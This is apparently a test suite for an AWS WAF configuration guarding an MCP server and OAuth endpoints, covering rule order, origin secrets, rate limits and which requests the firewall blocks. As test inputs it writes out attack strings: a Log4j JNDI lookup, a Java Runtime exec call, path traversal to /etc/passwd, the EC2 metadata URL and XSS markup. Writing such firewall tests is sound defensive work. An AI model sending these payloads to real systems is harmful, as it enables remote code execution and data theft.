import { BODY_RULES, MISJUDGED_RULES } from '../../lib/edge/firewall-statements.ts';
import { chatgpt } from '../clients/profiles/chatgpt.ts';
import { claude, claudeConfigured } from '../clients/profiles/claude.ts';
import { codex } from '../clients/profiles/codex.ts';
import { copilot, copilotConfigured } from '../clients/profiles/copilot.ts';
import { cursor } from '../clients/profiles/cursor.ts';
import { firstRevision } from '../clients/profiles/first-revision.ts';
import { geminiCli } from '../clients/profiles/gemini-cli.ts';
import { inspector } from '../clients/profiles/inspector.ts';
import { mcpRemote } from '../clients/profiles/mcp-remote.ts';
import { vscode } from '../clients/profiles/vscode.ts';
import { requestsOf, type SeenRequest } from '../support/client-profiles/requests.ts';
import { COMMON_RULES, judge, type Verdict } from '../support/firewall.ts';
import { shown, type Template, TWO_SERVERS, templateFor } from './template.ts';

const PROFILES = [
  ...[chatgpt, claude, claudeConfigured, codex, copilot, copilotConfigured, cursor],
  ...[firstRevision, geminiCli, inspector, mcpRemote, vscode],
].flat();

let template: Template;
// biome-ignore lint/suspicious/noExplicitAny: a template is read as it comes
let acl: any;
beforeAll(async () => {
  template = await templateFor(TWO_SERVERS);
  acl = template.ofType('AWS::WAFv2::WebACL')[0]?.[1].Properties;
});

/** A request as it comes from CloudFront to the API that answers its path. */
const through = (request: Partial<SeenRequest> & { path: string }): SeenRequest => {
  const api = /^\/(tools\/)?mcp($|\/)/.test(request.path) ? 'Servermcp' : 'AuthorizationServer';
  const [[apiId] = ['']] = template
    .ofType('AWS::ApiGateway::RestApi')
    .filter(([logicalId]) => logicalId.startsWith(`Gatehouse${api}`));
  const [secretId = ''] =
    template.ofType('AWS::SecretsManager::Secret').find(([logicalId]) => logicalId.includes('Origin')) ?? [];
  return {
    method: 'GET',
    query: '',
    body: '',
    ...request,
    headers: {
      'user-agent': 'test',
      ...request.headers,
      host: `<${apiId}>.execute-api.eu-central-1.amazonaws.com`,
      'x-gatehouse-viewer': '203.0.113.7',
      'x-gatehouse-origin': `{{resolve:secretsmanager:<${secretId}>:SecretString}}`,
    },
  };
};
const verdict = (request: Partial<SeenRequest> & { path: string }): Verdict => judge(acl.Rules, through(request));

describe('The web ACL (#242)', () => {
  it('is one of the region, before every stage, and only once CloudFront sends the secret', () => {
    expect(template.ofType('AWS::WAFv2::WebACL')).toHaveLength(1);
    expect(acl).toMatchObject({ Scope: 'REGIONAL', DefaultAction: { Allow: {} } });
    const stages = template.ofType('AWS::ApiGateway::Stage').map(([logicalId]) => logicalId);
    const associations = template.ofType('AWS::WAFv2::WebACLAssociation');
    expect(stages).toHaveLength(3);
    for (const stage of stages) {
      expect(
        associations.filter(([, { Properties }]) => shown(Properties.ResourceArn).endsWith(`/stages/<${stage}>`)),
      ).toHaveLength(1);
    }
    const [[distribution] = ['']] = template.ofType('AWS::CloudFront::Distribution');
    for (const [, { DependsOn }] of associations) expect(DependsOn).toContain(distribution);
  });

  it('holds these rules, in this order', () => {
    expect(
      acl.Rules.map(({ Name, Priority, Action, OverrideAction }: Record<string, object>) => [
        Priority,
        Name,
        Object.keys(Action ?? OverrideAction ?? {}),
      ]),
    ).toEqual([
      [0, 'NotThroughCloudFront', ['Block']],
      [1, 'LargeBody', ['Block']],
      [2, 'Common', ['None']],
      [3, 'KnownBadInputs', ['None']],
      [4, 'ServersKnownBadInputs', ['None']],
      [5, 'PagesPerViewer', ['Block']],
      [6, 'WithoutTokenPerViewer', ['Block']],
    ]);
  });

  it('keeps no samples of requests, which would hold tokens and codes', () => {
    for (const { VisibilityConfig } of [acl, ...acl.Rules]) expect(VisibilityConfig.SampledRequestsEnabled).toBe(false);
  });

  it('"firewall": false leaves it out, and CloudFront goes on sending the secret', async () => {
    const without = await templateFor({ ...TWO_SERVERS, firewall: false });
    expect(without.text).not.toContain('AWS::WAFv2');
    const { Origins } = without.ofType('AWS::CloudFront::Distribution')[0]?.[1].Properties.DistributionConfig ?? {};
    for (const { OriginCustomHeaders } of Origins) expect(OriginCustomHeaders).toHaveLength(1);
  });
});

describe('Around CloudFront (#118)', () => {
  it.each(['/mcp', '/tools/mcp', '/token', '/authorize', '/.well-known/jwks.json'])(
    '%s is refused without the secret, and with another one',
    (path) => {
      const { 'x-gatehouse-origin': _, ...headers } = through({ path }).headers;
      expect(judge(acl.Rules, { ...through({ path }), headers }).blockedBy).toBe('NotThroughCloudFront');
      const forged = { ...headers, 'x-gatehouse-origin': 'guessed', 'x-gatehouse-viewer': '198.51.100.1' };
      expect(judge(acl.Rules, { ...through({ path }), headers: forged }).blockedBy).toBe('NotThroughCloudFront');
      expect(verdict({ path }).blockedBy).toBeUndefined();
    },
  );

  it('CloudFront sends the secret by reference, to every API; the template does not hold it', () => {
    const { Origins } = template.ofType('AWS::CloudFront::Distribution')[0]?.[1].Properties.DistributionConfig ?? {};
    expect(Origins).toHaveLength(3);
    for (const { OriginCustomHeaders } of Origins) {
      expect(OriginCustomHeaders).toEqual([{ HeaderName: 'x-gatehouse-origin', HeaderValue: expect.anything() }]);
      expect(shown(OriginCustomHeaders[0].HeaderValue)).toMatch(
        /^\{\{resolve:secretsmanager:<GatehouseFrontDoorOriginSecret[0-9A-F]{8}>:SecretString\}\}$/,
      );
    }
  });
});

describe('Ordinary requests of every client', () => {
  const counted = new Map<string, Set<string>>();

  it.each(PROFILES.map((profile) => [profile.name, profile] as const))(
    '%s: nothing is blocked',
    async (name, profile) => {
      const requests = await requestsOf(profile);
      expect(requests.map(({ path }) => path)).toEqual(
        expect.arrayContaining(['/mcp', '/authorize', '/consent', '/token']),
      );
      for (const request of requests) {
        const { blockedBy, counted: rules } = verdict(request);
        expect([request.method, request.path, blockedBy]).toEqual([request.method, request.path, undefined]);
        for (const rule of rules) counted.set(rule, (counted.get(rule) ?? new Set()).add(name));
      }
    },
  );

  // What clients may send, by their specifications and our own promise, beside what these profiles happen to send.
  const BEARER = { authorization: 'Bearer eyJ.a.token' };
  const longState = 's'.repeat(5000);
  it.each<[string, string, Partial<SeenRequest> & { path: string }]>([
    [
      'a state of 5,000 characters',
      'SizeRestrictions_QUERYSTRING',
      { path: '/authorize', query: `state=${longState}` },
    ],
    [
      'its consent form',
      'SizeRestrictions_BODY',
      { method: 'POST', path: '/consent', body: `request=${longState}${longState}` },
    ],
    [
      'a state that is markup',
      'CrossSiteScripting_QUERYARGUMENTS',
      { path: '/authorize', query: 'state=%3Cscript%3E' },
    ],
    [
      'a redirect URI of a host that is called login',
      'RestrictedExtensions_QUERYARGUMENTS',
      { path: '/authorize', query: 'redirect_uri=https%3A%2F%2Fapp.login.example%2Fcallback' },
    ],
    [
      'a name that is markup',
      'CrossSiteScripting_BODY',
      { method: 'POST', path: '/register', body: '{"client_name":"<script>"}' },
    ],
  ])('%s only counts (%s)', (_what, rule, request) => {
    expect(verdict(request)).toMatchObject({ blockedBy: undefined, counted: [rule] });
  });

  it('a client without a User-Agent only counts', () => {
    const request = through({ method: 'POST', path: '/token', body: 'grant_type=refresh_token' });
    const { 'user-agent': _, ...headers } = request.headers;
    expect(judge(acl.Rules, { ...request, headers })).toMatchObject({
      blockedBy: undefined,
      counted: ['NoUserAgent_HEADER'],
    });
  });

  it('each family of rules that counts would refuse one of these; their other members could with any update', () => {
    expect(Object.keys(COMMON_RULES)).toEqual(expect.arrayContaining([...MISJUDGED_RULES]));
    // Seen above with the profiles themselves:
    expect([...counted.keys()].sort()).toEqual([
      'EC2MetaDataSSRF_BODY',
      'EC2MetaDataSSRF_QUERYARGUMENTS',
      'GenericRFI_BODY',
      'GenericRFI_QUERYARGUMENTS',
    ]);
    const families = new Set(MISJUDGED_RULES.map((rule) => rule.split('_')[0]));
    expect([...families]).toEqual([
      'NoUserAgent',
      'SizeRestrictions',
      'EC2MetaDataSSRF',
      'GenericRFI',
      'CrossSiteScripting',
      'RestrictedExtensions',
    ]);
    // The rules that go on blocking:
    expect(Object.keys(COMMON_RULES).filter((rule) => !(MISJUDGED_RULES as readonly string[]).includes(rule))).toEqual([
      'UserAgent_BadBots_HEADER',
      'GenericLFI_QUERYARGUMENTS',
      'GenericLFI_URIPATH',
      'GenericLFI_BODY',
    ]);
  });

  it.each([
    ['a URL with an address', 'http://192.0.2.1/file', []],
    ['the metadata service', 'http://169.254.169.254/latest/meta-data', []],
    ['markup', '<script>alert("hello")</script>', []],
    ['a path', '../../etc/passwd', []],
    ['an attack on Log4j', 'What does ${' + 'jndi:ldap://example.com/} do?', ['Log4JRCE_BODY']],
    ['an attack on Java', '(java.lang.Runtime).getRuntime().exec("whoami")', ['JavaDeserializationRCE_BODY']],
    ['200,000 characters', 'x'.repeat(200_000), []],
  ])('a tool call may speak of %s', (_what, text, rules) => {
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { arguments: { text } } });
    const call = through({ method: 'POST', path: '/mcp', body, headers: BEARER });
    const { 'user-agent': _, ...headers } = call.headers;
    expect(judge(acl.Rules, { ...call, headers })).toEqual({ blockedBy: undefined, counted: rules, rated: [] });
    for (const rule of rules) expect(BODY_RULES).toContain(rule);
  });
});

describe('What is refused', () => {
  const LOG4J = '${' + 'jndi:ldap://example.com/}';
  it.each<[string, string, Partial<SeenRequest> & { path: string }]>([
    ['more than 32 KB (#60)', 'LargeBody', { method: 'POST', path: '/token', body: 'x'.repeat(32_769) }],
    ['Log4j in a header', 'KnownBadInputs/Log4JRCE_HEADER', { path: '/authorize', headers: { 'x-any': LOG4J } }],
    ['Log4j in a body', 'KnownBadInputs/Log4JRCE_BODY', { method: 'POST', path: '/register', body: LOG4J }],
    [
      'Log4j in a header to a server',
      'ServersKnownBadInputs/Log4JRCE_HEADER',
      { path: '/mcp', headers: { 'x-any': LOG4J } },
    ],
    ['a path of Java servers', 'KnownBadInputs/ExploitablePaths_URIPATH', { path: '/WEB-INF/web.xml' }],
    ['PROPFIND', 'ServersKnownBadInputs/PROPFIND_METHOD', { method: 'PROPFIND', path: '/mcp' }],
    ['a scanner', 'Common/UserAgent_BadBots_HEADER', { path: '/authorize', headers: { 'user-agent': 'Nmap' } }],
    ['a way out of a folder', 'Common/GenericLFI_QUERYARGUMENTS', { path: '/authorize', query: 'state=..%2F..%2Fx' }],
  ])('%s', (_what, rule, request) => {
    expect(verdict(request).blockedBy).toBe(rule);
  });

  it('a form of exactly 32 KB passes', () => {
    expect(verdict({ method: 'POST', path: '/consent', body: 'x'.repeat(32_768) }).blockedBy).toBeUndefined();
    expect(acl.AssociationConfig).toEqual({ RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: 'KB_32' } } });
  });
});

describe('Rate rules', () => {
  it('know the viewer by what CloudFront saw, never by X-Forwarded-For', () => {
    const rates = acl.Rules.flatMap(
      ({ Statement }: { Statement: Record<string, object> }) => Statement.RateBasedStatement ?? [],
    );
    expect(rates).toHaveLength(2);
    for (const rate of rates) {
      expect(rate).toMatchObject({
        AggregateKeyType: 'FORWARDED_IP',
        ForwardedIPConfig: { HeaderName: 'x-gatehouse-viewer', FallbackBehavior: 'NO_MATCH' },
        EvaluationWindowSec: 300,
      });
    }
    expect(template.text.toLowerCase()).not.toContain('x-forwarded-for');
  });

  it.each([
    ['GET', '/authorize', 'PagesPerViewer'],
    ['POST', '/consent', 'PagesPerViewer'],
    ['GET', '/callback/company', 'PagesPerViewer'],
    ['POST', '/mcp', 'WithoutTokenPerViewer'],
    ['GET', '/mcp/more', 'WithoutTokenPerViewer'],
  ])('%s %s is counted by %s', (method, path, rule) => {
    expect(verdict({ method, path }).rated).toEqual([rule]);
  });

  it.each([
    ['POST', '/register', {}],
    ['POST', '/token', {}],
    ['POST', '/revoke', {}],
    ['GET', '/.well-known/oauth-authorization-server', {}],
    ['POST', '/mcp', { authorization: 'Bearer eyJ.a.token' }],
    ['POST', '/tools/mcp', { authorization: 'bearer eyJ.a.token' }],
  ])('%s %s of a connector that many people share is not counted at all (#172)', (method, path, headers) => {
    expect(verdict({ method, path, headers }).rated).toEqual([]);
  });
});

describe('Answers of the gateway itself', () => {
  it.each([
    ['WAF_FILTERED', '403', "'60'", 'access_denied'],
    ['THROTTLED', '429', "'5'", 'temporarily_unavailable'],
  ])('%s: JSON, readable by scripts, with Retry-After, on every API', (type, status, retryAfter, error) => {
    const answers = template
      .ofType('AWS::ApiGateway::GatewayResponse')
      .filter(([, { Properties }]) => Properties.ResponseType === type);
    expect(answers).toHaveLength(3);
    for (const [, { Properties }] of answers) {
      expect(Properties.StatusCode).toBe(status);
      expect(Properties.ResponseParameters).toMatchObject({
        'gatewayresponse.header.Retry-After': retryAfter,
        'gatewayresponse.header.Access-Control-Allow-Origin': "'*'",
        'gatewayresponse.header.Access-Control-Expose-Headers': expect.stringContaining('Retry-After'),
      });
      expect(JSON.parse(Properties.ResponseTemplates['application/json'])).toMatchObject({ error });
    }
  });
});
